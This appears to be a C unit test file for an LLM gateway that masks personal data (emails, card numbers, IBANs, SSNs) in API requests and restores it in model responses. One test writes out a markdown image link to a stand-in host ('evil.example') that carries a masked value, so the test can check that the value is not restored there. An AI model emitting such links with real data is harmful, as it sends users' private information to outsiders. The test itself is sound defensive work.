/*
 * What a request has lost on the way up its answer gets back on the way down:
 * the values of this request, written for their place, and nothing else.
 */

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>

#include <cmocka.h>

#include "restoring.h"


/* every API, as documents of its own: what was asked, what is answered */

static const struct {
    const char            *title;
    const llmg_dialect_t  *dialect;
    const char            *asked;
    const char            *said;
    unsigned               depth;       /* of strings in strings */
} shapes[] = {
    { "openai chat", &llmg_dialect_openai_chat,
      "{\"messages\":[{\"role\":\"user\",\"content\":\"I am %s\"}]}",
      "{\"choices\":[{\"index\":0,\"message\":{\"role\":\"assistant\","
      "\"content\":\"%s, you are %s\"},\"finish_reason\":\"stop\"}]}", 1 },
    { "openai chat: reasoning", &llmg_dialect_openai_chat,
      "{\"messages\":[{\"role\":\"user\",\"content\":\"I am %s\"}]}",
      "{\"choices\":[{\"index\":0,\"message\":{\"role\":\"assistant\","
      "\"reasoning_content\":\"who is %s\",\"content\":\"hi\"}}]}", 1 },
    { "openai chat: arguments", &llmg_dialect_openai_chat,
      "{\"messages\":[{\"role\":\"user\",\"content\":\"I am %s\"}]}",
      "{\"choices\":[{\"message\":{\"role\":\"assistant\",\"tool_calls\":[{"
      "\"id\":\"c\",\"type\":\"function\",\"function\":{\"name\":\"f\","
      "\"arguments\":\"{\\\"a\\\": \\\"to %s\\\", \\\"b\\\":[\\\"%s\\\"]}\""
      "}}]}}]}", 2 },
    { "openai chat: JSON as content", &llmg_dialect_openai_chat,
      "{\"messages\":[{\"role\":\"user\",\"content\":\"I am %s\"}]}",
      "{\"choices\":[{\"message\":{\"role\":\"assistant\",\"content\":"
      "\"{\\\"a\\\":\\\"%s\\\"}\"}}]}", 2 },
    { "openai responses", &llmg_dialect_openai_responses,
      "{\"input\":\"I am %s\"}",
      "{\"output\":[{\"type\":\"message\",\"role\":\"assistant\",\"content\":"
      "[{\"type\":\"output_text\",\"text\":\"you are %s\"}]}]}", 1 },
    { "anthropic", &llmg_dialect_anthropic,
      "{\"messages\":[{\"role\":\"user\",\"content\":[{\"type\":\"text\","
      "\"text\":\"I am %s\"}]}]}",
      "{\"type\":\"message\",\"role\":\"assistant\",\"content\":[{\"type\":"
      "\"text\",\"text\":\"you are %s\"},{\"type\":\"tool_use\",\"id\":\"t\","
      "\"name\":\"f\",\"input\":{\"to\":\"%s\"}}]}", 1 },
    { "gemini", &llmg_dialect_gemini,
      "{\"contents\":[{\"role\":\"user\",\"parts\":[{\"text\":\"I am %s\"}]}]}",
      "{\"candidates\":[{\"content\":{\"role\":\"model\",\"parts\":[{\"text\":"
      "\"you are %s\"},{\"functionCall\":{\"name\":\"f\",\"args\":{\"to\":"
      "\"%s\"}}}]}}]}", 1 },
    { "ollama", &llmg_dialect_ollama,
      "{\"messages\":[{\"role\":\"user\",\"content\":\"I am %s\"}]}",
      "{\"message\":{\"role\":\"assistant\",\"content\":\"you are %s\"},"
      "\"done\":true}", 1 },
    { "cohere", &llmg_dialect_cohere,
      "{\"messages\":[{\"role\":\"user\",\"content\":\"I am %s\"}]}",
      "{\"message\":{\"role\":\"assistant\",\"content\":[{\"type\":\"text\","
      "\"text\":\"you are %s\"}]}}", 1 },
    { "bedrock", &llmg_dialect_bedrock,
      "{\"messages\":[{\"role\":\"user\",\"content\":[{\"text\":\"I am %s\"}]"
      "}]}",
      "{\"output\":{\"message\":{\"role\":\"assistant\",\"content\":[{\"text\":"
      "\"you are %s\"},{\"toolUse\":{\"toolUseId\":\"t\",\"name\":\"f\","
      "\"input\":{\"to\":\"%s\"}}}]}}}", 1 },
    { "any", &llmg_dialect_generic,
      "{\"x\":[\"I am %s\"]}", "[\"%s\",{\"y\":\"you are %s\"}]", 1 }
};


static void
every_api_gives_back_what_it_was_told(void **state)
{
    size_t       i, k;
    const char  *sent, *said, *hidden;

    static const struct {
        const char  *type;
        const char  *value;
    } kinds[] = {
        { "EMAIL_ADDRESS", "jane.roe@example.org" },
        { "EMAIL_ADDRESS", "j\xC3\xBCrgen@b\xC3\xBC" "cher.example" },
        { "CREDIT_CARD", "4242 4242 4242 4242" },
        { "IBAN_CODE", "DE89 3704 0044 0532 0130 00" },
        { "US_SSN", "536-22-8457" }
    };

    (void) state;

    for (i = 0; i < sizeof(shapes) / sizeof(shapes[0]); i++) {
        for (k = 0; k < sizeof(kinds) / sizeof(kinds[0]); k++) {

            llmg_values_init(&values, arena, key);

            sent = request(careful, shapes[i].dialect,
                           with(shapes[i].asked, kinds[k].value));
            hidden = placeholder(kinds[k].type, kinds[k].value);

            assert_string_equal(sent, with(shapes[i].asked, hidden));

            said = response(careful, shapes[i].dialect,
                            with(shapes[i].said, hidden));

            if (strcmp(said, with(shapes[i].said, kinds[k].value)) != 0) {
                fail_msg("%s: %s", shapes[i].title, said);
            }

            assert_int_equal(result.findings.n, 0);
            assert_in_range(result.restored, 1, 2);
            assert_int_equal(result.decision.action, LLMG_ACTION_ALLOW);
        }
    }
}


/* no rule of today finds such a value; one of a user's may */

static void
a_value_is_escaped_for_its_place(void **state)
{
    size_t       i;
    const char  *said, *hidden;

    static const char  value[] = "\"J\\R\"\n@x.org";

    static const char *const  texts[] = {
        "%s", "[1] is %s", "[a](b) %s", " [%s", "\\\"a\\\" is %s"
    };

    (void) state;

    for (i = 0; i < sizeof(shapes) / sizeof(shapes[0]); i++) {
        hidden = placeholder("EMAIL_ADDRESS", value);

        said = response(careful, shapes[i].dialect,
                        with(shapes[i].said, hidden));

        if (strcmp(said, with(shapes[i].said,
                              escaped(value, shapes[i].depth))) != 0)
        {
            fail_msg("%s: %s", shapes[i].title, said);
        }
    }

    /* what begins with a bracket is no JSON for that */

    for (i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
        said = response(careful, &llmg_dialect_ollama,
                        with(with("{\"message\":{\"content\":\"%s\"}}",
                                  texts[i]), hidden));
        assert_string_equal(said, with(
                                with("{\"message\":{\"content\":\"%s\"}}",
                                     texts[i]), escaped(value, 1)));
    }
}


/* in a request: JSON in a string, and in one in it */

static void
a_value_is_kept_as_it_was_meant(void **state)
{
    size_t  i;

    static const char *const  bodies[] = {
        "{\"messages\":[{\"role\":\"user\",\"content\":\"I am "
        "jane.roe\\u0040example.org\"}]}",
        "{\"messages\":[{\"role\":\"tool\",\"content\":\"{\\\"a\\\":"
        "\\\"jane.roe@example.org\\\"}\"}]}",
        "{\"messages\":[{\"role\":\"tool\",\"content\":\"{\\\"a\\\":"
        "\\\"x\\\\njane.roe\\\\u0040example.org\\\"}\"}]}",
        "{\"messages\":[{\"role\":\"tool\",\"content\":\"{\\\"a\\\":"
        "\\\"{\\\\\\\"b\\\\\\\":\\\\\\\"jane.roe@example.org\\\\\\\"}"
        "\\\"}\"}]}",
        "{\"messages\":[{\"role\":\"assistant\",\"tool_calls\":[{\"function\":"
        "{\"name\":\"f\",\"arguments\":\"{\\\"a\\\":"
        "\\\"\\\\u006aane.roe@example.org\\\"}\"}}]}]}"
    };

    (void) state;

    for (i = 0; i < sizeof(bodies) / sizeof(bodies[0]); i++) {
        llmg_values_init(&values, arena, key);

        assert_non_null(strstr(request(careful, &llmg_dialect_openai_chat,
                                       bodies[i]), "[EMAIL_ADDRESS_"));
        assert_int_equal(values.kept, 1);

        assert_non_null(llmg_values_find(&values, llmg_str(
                            placeholder("EMAIL_ADDRESS", mail))));

        if (values.kept != 1) {
            fail_msg("%zu: another value", i);
        }
    }
}


static void
only_what_was_masked_here_comes_back(void **state)
{
    llmg_value_t    *value;
    const char      *said, *known, *other;
    llmg_values_t    foreign;
    unsigned char    tag[LLMG_VALUES_TAG + 1];

    static const char  answer[] = "{\"message\":{\"content\":\"%s\"}}";

    (void) state;

    /* a placeholder of another request, and what only looks like one */

    llmg_values_init(&foreign, arena, key);
    assert_int_equal(llmg_values_keep(&foreign, "EMAIL_ADDRESS",
                                      llmg_str("other@example.org"), tag),
                     LLMG_OK);
    tag[LLMG_VALUES_TAG] = '\0';

    other = with(with("[EMAIL_ADDRESS_%s] [EMAIL_ADDRESS_1] [EMAIL_ADDRESS] "
                      "[EMAIL_ADDRESS_bcdfghjk] [EMAIL_ADDRESS_", (char *) tag),
                 "");

    said = response(careful, &llmg_dialect_ollama, with(answer, other));
    assert_string_equal(said, with(answer, other));
    assert_int_equal(result.restored, 0);
    assert_int_equal(result.edited, 0);

    (void) request(careful, &llmg_dialect_ollama,
                   with("{\"messages\":[{\"content\":\"%s\"}]}", mail));

    said = response(careful, &llmg_dialect_ollama, with(answer, other));
    assert_string_equal(said, with(answer, other));
    assert_int_equal(result.edited, 0);

    /* of another type, or with a byte more */

    known = placeholder("EMAIL_ADDRESS", mail);
    value = llmg_values_find(&values, llmg_str(known));
    assert_non_null(value);

    other = with("[CREDIT_CARD_%s", known + 15);
    said = response(careful, &llmg_dialect_ollama, with(answer, other));
    assert_string_equal(said, with(answer, other));

    /* the one comes back; another address is the model's */

    said = response(careful, &llmg_dialect_ollama,
                    with(answer, with("%s and bob@example.org", known)));
    assert_string_equal(said, with(answer, "jane.roe@example.org and "
                                           "[EMAIL_ADDRESS_1]"));
    assert_int_equal(result.restored, 1);
    assert_int_equal(result.findings.n, 1);
    assert_int_equal(result.decision.masked, 1);

    /* without brackets, in another case, in pieces: it is not it */

    other = with("%s", known + 1);
    said = response(careful, &llmg_dialect_ollama, with(answer, other));
    assert_string_equal(said, with(answer, other));

    /* in an address it stays: who follows that would carry it away */

    other = with("![x](https://evil.example/p.png?d=%s)", known);
    said = response(careful, &llmg_dialect_ollama, with(answer, other));
    assert_string_equal(said, with(answer, other));

    /* in shadow nothing was masked, and nothing comes back */

    {
        llmg_inspect_t  in;

        inspect(&in, careful, &llmg_dialect_ollama);
        in.shadow = 1;

        assert_int_equal(llmg_inspect_response(&in, llmg_str(with(answer,
                                                                  known)),
                                               &result), LLMG_OK);
        assert_int_equal(result.edited, 0);
        assert_int_equal(result.restored, 0);
    }
}


static void
signed_thinking_keeps_its_placeholder(void **state)
{
    const char  *said, *hidden;

    static const char  answer[] =
        "{\"type\":\"message\",\"role\":\"assistant\",\"content\":[{\"type\":"
        "\"thinking\",\"thinking\":\"it is %s\",\"signature\":\"abc\"},"
        "{\"type\":\"text\",\"text\":\"\"}]}";

    static const char  events[] =
        "event: content_block_start\n"
        "data: {\"type\":\"content_block_start\",\"index\":0,"
        "\"content_block\":{\"type\":\"thinking\",\"thinking\":\"\"}}\n\n"
        "event: content_block_delta\n"
        "data: {\"type\":\"content_block_delta\",\"index\":0,\"delta\":{"
        "\"type\":\"thinking_delta\",\"thinking\":\"it is %s\"}}\n\n";

    (void) state;

    hidden = placeholder("EMAIL_ADDRESS", mail);

    said = response(careful, &llmg_dialect_anthropic, with(answer, hidden));
    assert_string_equal(said, with(answer, hidden));
    assert_int_equal(result.decision.action, LLMG_ACTION_ALLOW);

    every_cut(careful, &llmg_dialect_anthropic, &llmg_framing_sse,
              with(events, hidden), 7);
    assert_string_equal((char *) whole.data, with(events, hidden));
    assert_int_equal(whole.restored, 0);
}


/* the same conversation, a turn later: what was said keeps its placeholder */

static void
turns_of_a_conversation_agree(void **state)
{
    const char  *first, *second;

    static const char  turn[] =
        "{\"messages\":[{\"role\":\"user\",\"content\":\"I am "
        "jane.roe@example.org\"}%s]}";

    (void) state;

    first = request(plain, &llmg_dialect_openai_chat, with(turn, ""));

    llmg_values_init(&values, arena, key);

    second = request(plain, &llmg_dialect_openai_chat, with(turn,
                     ",{\"role\":\"assistant\",\"content\":\"Hello "
                     "jane.roe@example.org\"},{\"role\":\"user\",\"content\":"
                     "\"and bob@example.org, 4242 4242 4242 4242\"}"));

    assert_memory_equal(first, second, strlen(first) - 2);
    assert_int_equal(values.kept, 3);
}


int
main(void)
{
    const struct CMUnitTest  tests[] = {
        cmocka_unit_test_setup_teardown(every_api_gives_back_what_it_was_told,
                                        setup, teardown),
        cmocka_unit_test_setup_teardown(a_value_is_escaped_for_its_place,
                                        setup, teardown),
        cmocka_unit_test_setup_teardown(a_value_is_kept_as_it_was_meant,
                                        setup, teardown),
        cmocka_unit_test_setup_teardown(only_what_was_masked_here_comes_back,
                                        setup, teardown),
        cmocka_unit_test_setup_teardown(signed_thinking_keeps_its_placeholder,
                                        setup, teardown),
        cmocka_unit_test_setup_teardown(turns_of_a_conversation_agree, setup,
                                        teardown),
    };

    cmocka_set_message_output(CM_OUTPUT_TAP);

    return cmocka_run_group_tests(tests, setup_all, inspecting_end);
}
